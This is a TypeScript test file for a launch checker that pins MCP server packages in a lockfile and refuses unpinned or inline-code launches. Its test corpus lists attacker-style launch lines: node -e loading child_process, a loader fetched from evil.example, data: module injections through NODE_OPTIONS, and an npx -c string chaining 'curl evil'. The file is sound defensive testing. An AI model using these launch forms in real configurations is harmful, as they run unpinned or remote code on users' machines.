import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, describe, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { checkLaunch } from './launch-check.ts'
import { observeLaunch, readLockfile, writeLockfile } from './lockfile.ts'

const repo = fileURLToPath(new URL('../../', import.meta.url))
const dir = mkdtempSync(join(tmpdir(), 'barbican-launch-'))
after(() => rmSync(dir, { recursive: true, force: true }))

/** A package installed the way npm leaves it: files, and the hidden lock with its integrity. */
function installFixturePackage(root: string, version: string): string {
  const pkg = join(root, 'node_modules', 'trust-fixture-server')
  mkdirSync(pkg, { recursive: true })
  writeFileSync(
    join(pkg, 'package.json'),
    JSON.stringify({ name: 'trust-fixture-server', version, bin: 'server.js' }),
  )
  writeFileSync(join(pkg, 'server.js'), 'console.log("fixture")\n')
  writeFileSync(
    join(root, 'node_modules', '.package-lock.json'),
    JSON.stringify({
      packages: { 'node_modules/trust-fixture-server': { version, integrity: 'sha512-AAAA' } },
    }),
  )
  return pkg
}

const context = (cwd: string) => ({ cwd, home: undefined })
const npx = (spec: string) => ({ command: 'npx', args: ['-y', spec] })

describe('checking a launch before it happens', () => {
  test('refuses a floating version unless the upstream allows it', () => {
    assert.throws(
      () =>
        checkLaunch('mem', npx('@modelcontextprotocol/server-memory'), {
          allowFloating: false,
          lock: undefined,
          context: context(repo),
        }),
      (err: Error & { code?: string }) =>
        err.code === 'ERR_LAUNCH_REFUSED' &&
        /upstream "mem": launch refused: @modelcontextprotocol\/server-memory is given with no version/.test(
          err.message,
        ),
    )
    assert.doesNotThrow(() =>
      checkLaunch('mem', npx('@modelcontextprotocol/server-memory@latest'), {
        allowFloating: true,
        lock: undefined,
        context: context(repo),
      }),
    )
  })

  test('pins an installed npm package with its registry integrity and accepts it unchanged', () => {
    const root = join(dir, 'ok')
    installFixturePackage(root, '1.0.0')
    const launch = checkLaunch('fx', npx('trust-fixture-server@1.0.0'), {
      allowFloating: false,
      lock: undefined,
      context: context(root),
    })
    assert.ok(launch)
    const entry = observeLaunch(launch, context(root))
    assert.equal(entry.version, '1.0.0')
    assert.equal(entry.integrity, 'sha512-AAAA')
    assert.match(entry.files, /^sha256-/)
    const lockPath = join(root, 'barbican.lock')
    writeLockfile(lockPath, { lockfileVersion: 1, upstreams: { fx: entry } })
    assert.doesNotThrow(() =>
      checkLaunch('fx', npx('trust-fixture-server@1.0.0'), {
        allowFloating: false,
        lock: readLockfile(lockPath),
        context: context(root),
      }),
    )
  })

  test('a lockfile mismatch refuses the launch naming the package, the expected and the found value', () => {
    const root = join(dir, 'tampered')
    const pkg = installFixturePackage(root, '1.0.0')
    const launch = checkLaunch('fx', npx('trust-fixture-server@1.0.0'), {
      allowFloating: false,
      lock: undefined,
      context: context(root),
    })
    const entry = observeLaunch(launch!, context(root))
    const lock = { lockfileVersion: 1 as const, upstreams: { fx: entry } }
    writeFileSync(join(pkg, 'server.js'), 'console.log("something else")\n')
    assert.throws(
      () =>
        checkLaunch('fx', npx('trust-fixture-server@1.0.0'), {
          allowFloating: false,
          lock,
          context: context(root),
        }),
      (err: Error & { code?: string }) => {
        assert.equal(err.code, 'ERR_LAUNCH_REFUSED')
        assert.equal(
          err.message,
          `upstream "fx": launch refused: trust-fixture-server@1.0.0 does not match barbican.lock: files expected ${entry.files}, found ${observeLaunch(launch!, context(root)).files}`,
        )
        return true
      },
    )
    assert.throws(
      () =>
        checkLaunch('fx', npx('trust-fixture-server@1.0.1'), {
          allowFloating: false,
          lock,
          context: context(root),
        }),
      /barbican\.lock pins trust-fixture-server@1\.0\.0, the config asks for trust-fixture-server@1\.0\.1/,
    )
    assert.throws(
      () =>
        checkLaunch('other', npx('trust-fixture-server@1.0.0'), {
          allowFloating: false,
          lock,
          context: context(root),
        }),
      /package trust-fixture-server has no entry in barbican\.lock; run `barbican lock`/,
    )
  })

  test('a package that is not installed cannot be verified and is refused', () => {
    const lock = {
      lockfileVersion: 1 as const,
      upstreams: {
        gone: { runner: 'npx', package: 'not-installed-pkg', version: '1.0.0', files: 'sha256-x' },
      },
    }
    assert.throws(
      () =>
        checkLaunch('gone', npx('not-installed-pkg@1.0.0'), {
          allowFloating: false,
          lock,
          context: context(dir),
        }),
      /package not-installed-pkg@1\.0\.0 is not installed/,
    )
  })

  test('finds the registry integrity of a real installed package in the npm lock', () => {
    const launch = checkLaunch(
      'everything',
      npx('@modelcontextprotocol/server-everything@2026.8.31'),
      {
        allowFloating: false,
        lock: undefined,
        context: context(repo),
      },
    )
    assert.match(observeLaunch(launch!, context(repo)).integrity ?? '', /^sha512-/)
  })
})

/** The check as serve runs it, with nothing allowed and no lockfile. */
function refusal(command: string, args: string[], env?: Record<string, string>): string {
  try {
    checkLaunch('up', env === undefined ? { command, args } : { command, args, env }, {
      allowFloating: false,
      lock: undefined,
      context: context(dir),
    })
  } catch (err) {
    assert.equal((err as { code?: string }).code, 'ERR_LAUNCH_REFUSED')
    return (err as Error).message
  }
  return 'accepted'
}

const INLINE_HINT =
  ', which barbican.lock cannot pin; launch a script file or a package, or set trust.allowInlineCode: true'

describe('code no file holds is refused unless allowed', () => {
  // Each form an attacker who can edit one config line would try, with the reason given.
  const corpus: [string, string[], string][] = [
    ['node', ['-e', 'require("child_process")'], 'node -e runs code given on the command line'],
    ['node', ['--eval', 'x'], 'node --eval runs code given on the command line'],
    ['node', ['--eval=x'], 'node --eval runs code given on the command line'],
    ['node', ['-p', 'x'], 'node -p runs code given on the command line'],
    ['node', ['-pe', 'x'], 'node -pe runs code given on the command line'],
    ['node', ['--print', 'x'], 'node --print runs code given on the command line'],
    ['node', ['--print=x'], 'node --print runs code given on the command line'],
    ['node', ['-ip'], 'node -ip runs code given on the command line'],
    [
      'node',
      ['--import=data:text/javascript,import("child_process")', 'server.js'],
      'node --import data: loads code given on the command line',
    ],
    [
      'node',
      ['--import', 'data:text/javascript,x', 'server.js'],
      'node --import data: loads code given on the command line',
    ],
    [
      'node',
      ['--require', 'data:text/javascript,x', 'server.js'],
      'node --require data: loads code given on the command line',
    ],
    ['node', ['-r', 'DATA:,x', 'server.js'], 'node -r data: loads code given on the command line'],
    [
      'node',
      ['--experimental-loader', 'data:text/javascript,x', 'server.js'],
      'node --experimental-loader data: loads code given on the command line',
    ],
    [
      'node',
      ['--loader=https://evil.example/l.mjs', 'server.js'],
      'node --loader https: loads code given on the command line',
    ],
    ['node', ['-'], 'node - reads its program from stdin'],
    ['node', ['--', '-'], 'node without a script reads its program from stdin'],
    ['node', [], 'node without a script reads its program from stdin'],
    ['node', ['--no-warnings'], 'node without a script reads its program from stdin'],
    ['node', ['-i'], 'node -i runs code read from stdin'],
    ['node', ['--run', 'start'], 'node --run runs a package.json script through a shell'],
    ['/usr/local/bin/nodejs', ['-e', 'x'], 'nodejs -e runs code given on the command line'],
    ['node.exe', ['--eval=x'], 'node --eval runs code given on the command line'],
    ['python3', ['-c', 'import os'], 'python3 -c runs code given on the command line'],
    ['python', ['-cimport os'], 'python -cimport os runs code given on the command line'],
    ['python3.12', ['-Ic', 'x'], 'python3.12 -Ic runs code given on the command line'],
    ['python3', ['-Wignore', '-c', 'x'], 'python3 -c runs code given on the command line'],
    ['python3', ['-'], 'python3 - reads its program from stdin'],
    ['python3', [], 'python3 without a script reads its program from stdin'],
    ['python3', ['-u'], 'python3 without a script reads its program from stdin'],
    ['python3', ['-i', 'server.py'], 'python3 -i runs code read from stdin'],
    ['deno', ['eval', 'x'], 'deno eval runs code given on the command line'],
    ['deno', ['repl'], 'deno repl runs code read from stdin'],
    ['deno', ['task', 'start'], "deno task runs a deno.json task's shell command"],
    ['deno', ['run', '-A', '-'], 'deno - reads its program from stdin'],
    ['deno', ['run', 'data:text/javascript,x'], 'deno data: runs code given on the command line'],
    ['deno', [], 'deno without a module reads its program from stdin'],
    ['bun', ['-e', 'x'], 'bun -e runs code given on the command line'],
    ['bun', ['--eval', 'x'], 'bun --eval runs code given on the command line'],
    ['bun', ['--print=x'], 'bun --print runs code given on the command line'],
    ['bun', ['run', '-'], 'bun - reads its program from stdin'],
    [
      'bun',
      ['--preload', 'data:text/javascript,x', 'server.ts'],
      'bun --preload data: loads code given on the command line',
    ],
    ['env', ['node', '-e', 'x'], 'node -e runs code given on the command line'],
    ['npx', ['-y', 'node@22.0.0', '-e', 'x'], 'node -e runs code given on the command line'],
    [
      'npx',
      ['-p', 'node@22.0.0', 'node', '--eval=x'],
      'node --eval runs code given on the command line',
    ],
    ['uvx', ['python', '-c', 'x'], 'python -c runs code given on the command line'],
    [
      'uv',
      ['run', '--with', 'a==1', 'python3', '-c', 'x'],
      'python3 -c runs code given on the command line',
    ],
    ['uv', ['run', '-'], 'uv run - reads its program from stdin'],
    [
      '/usr/bin/env',
      ['-i', 'A=1', 'python3', '-c', 'x'],
      'python3 -c runs code given on the command line',
    ],
  ]
  for (const [command, args, reason] of corpus) {
    test(`${command} ${args.join(' ')}`, () => {
      assert.equal(refusal(command, args), `upstream "up": launch refused: ${reason}${INLINE_HINT}`)
    })
  }

  test('NODE_OPTIONS loading a data: module is inline code for every command', () => {
    for (const options of [
      '--import=data:text/javascript,x',
      '--require "data:text/javascript,x"',
      '--no-warnings --experimental-loader=data:,x',
      `--import="data:text/javascript,import x from 'y'"`,
      `'--import' 'data:text/javascript,x'`,
    ]) {
      assert.match(
        refusal('npx', ['-y', 'server@1.0.0'], { NODE_OPTIONS: options }),
        /^upstream "up": launch refused: NODE_OPTIONS --(import|require|experimental-loader) data: loads code given in the environment, which barbican\.lock cannot pin/,
        options,
      )
    }
    assert.match(
      refusal('env', ['NODE_OPTIONS=--import=data:,x', 'node', 'server.js']),
      /NODE_OPTIONS --import data: loads code given in the environment/,
    )
    assert.equal(
      refusal('node', ['server.js'], { NODE_OPTIONS: '--max-old-space-size=512 --import tsx' }),
      'accepted',
    )
  })

  test('npx -c and env -S are shell strings, refused even when inline code is allowed', () => {
    for (const [command, args] of [
      ['npx', ['-c', 'server && curl evil']],
      ['env', ['-S', 'node -e x']],
    ] as const) {
      assert.throws(
        () =>
          checkLaunch(
            'up',
            { command, args },
            {
              allowFloating: true,
              allowInlineCode: true,
              lock: undefined,
              context: context(dir),
            },
          ),
        /configure the server's own command/,
      )
    }
  })

  test('legitimate scripts, modules and preloads are still accepted', () => {
    const accepted: [string, string[]][] = [
      ['node', ['server.js']],
      ['node', ['--enable-source-maps', '--import', 'tsx', 'server.ts', '-e', 'arg-of-server']],
      ['node', ['--import=./register.js', '--conditions', 'production', 'dist/index.js']],
      ['node', ['--import', 'file:///srv/register.mjs', '--', 'server.js', '-p']],
      ['node', ['--max-old-space-size=512', '-r', 'dotenv/config', 'index.js']],
      ['python3', ['-u', 'server.py', '-c', 'config.toml']],
      ['python3', ['-m', 'mcp_server_time']],
      ['python3', ['-X', 'utf8', '-Wignore', 'server.py']],
      ['deno', ['run', '-A', '--config', 'deno.json', 'main.ts']],
      ['deno', ['run', 'jsr:@scope/server']],
      ['bun', ['run', 'server.ts', '-e']],
      ['env', ['FOO=1', 'node', 'server.js']],
      ['uv', ['run', '--with', 'mcp==1.0.0', 'python3', 'server.py']],
      ['docker', ['run', '-i', 'image@sha256:abc']],
    ]
    for (const [command, args] of accepted)
      assert.equal(refusal(command, args), 'accepted', `${command} ${args.join(' ')}`)
  })

  test('with trust.allowInlineCode the same forms launch, unlocked', () => {
    const lock = { lockfileVersion: 1 as const, upstreams: {} }
    const launch = checkLaunch(
      'up',
      { command: 'node', args: ['-e', 'x'] },
      { allowFloating: false, allowInlineCode: true, lock, context: context(dir) },
    )
    assert.equal(launch?.kind, 'inline')
  })
})

describe('every package on an npx or uvx command line is checked', () => {
  const refused: [string, string[], string][] = [
    ['npx', ['-p', 'a@1.0.0', '-p', 'b', 'bin'], 'b (npx -p) is given with no version'],
    [
      'npx',
      ['--package', 'a@1.0.0', '--package=b@latest', 'bin'],
      'b (npx --package) is given with "latest"',
    ],
    ['npx', ['-p', 'a@1.0.0', '--pack=b@^2', 'bin'], 'b (npx --pack) is given with "^2"'],
    ['npx', ['-y', '-p=a@1.0.0', '-p=b', 'bin'], 'b (npx -p) is given with no version'],
    ['npx', ['-p', 'a', 'bin'], 'a is given with no version'],
    ['npm', ['exec', '--yes', '--', 'server@latest'], 'server is given with "latest"'],
    ['npm', ['x', '-p', 'a@1.0.0', '-p', 'b', 'bin'], 'b (npx -p) is given with no version'],
    [
      'uvx',
      ['--with', 'requests', 'server==1.0.0'],
      'requests (uvx --with) is given with no version',
    ],
    [
      'uvx',
      ['--with=httpx==0.27.0,rich', 'server==1.0.0'],
      'rich (uvx --with) is given with no version',
    ],
    [
      'uvx',
      ['--from', 'server==1.0.0', '--with', 'extra>=2', 'server'],
      'extra (uvx --with) is given with ">=2"',
    ],
    [
      'uvx',
      ['--with-requirements', 'reqs.txt', 'server==1.0.0'],
      'reqs.txt (uvx --with-requirements) is given with no version',
    ],
    [
      'uvx',
      ['--with-editable', './src', 'server==1.0.0'],
      './src (uvx --with-editable) is given with no version',
    ],
    [
      'uv',
      ['tool', 'run', '--from=server==1.0.0', '--with', 'b@latest', 'server'],
      'b (uvx --with) is given with "latest"',
    ],
    [
      'uvx',
      ['--from', 'git+https://example.com/s.git', 'server'],
      'git+https://example.com/s.git is given with no version',
    ],
  ]
  for (const [command, args, message] of refused) {
    test(`${command} ${args.join(' ')}`, () => {
      assert.match(
        refusal(command, args),
        new RegExp(
          `^upstream "up": launch refused: ${message.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, which floats`,
        ),
      )
    })
  }

  test('every package pinned exactly is accepted', () => {
    for (const [command, args] of [
      ['npx', ['-y', '-p', 'a@1.0.0', '--package=b@2.0.0', 'bin', '-p', 'not-a-package']],
      ['uvx', ['--with', 'httpx==0.27.0,rich==13.7.1', '--from', 'server==1.0.0', 'server']],
    ] as const)
      assert.equal(refusal(command, [...args]), 'accepted', `${command} ${args.join(' ')}`)
  })

  test('barbican.lock must pin the packages installed beside the one that runs', () => {
    const root = join(dir, 'with')
    installFixturePackage(root, '1.0.0')
    const launchSpec = { command: 'npx', args: ['-p', 'trust-fixture-server@1.0.0', 'server'] }
    const options = { allowFloating: false, lock: undefined, context: context(root) }
    const alone = observeLaunch(checkLaunch('fx', launchSpec, options)!, context(root))
    const lock = { lockfileVersion: 1 as const, upstreams: { fx: alone } }
    assert.throws(
      () =>
        checkLaunch(
          'fx',
          {
            command: 'npx',
            args: [...launchSpec.args.slice(0, 2), '-p', 'trust-fixture-server@1.0.0', 'server'],
          },
          { ...options, lock },
        ),
      /barbican\.lock pins trust-fixture-server with \[\], the config installs \[trust-fixture-server\] beside it/,
    )
  })
})
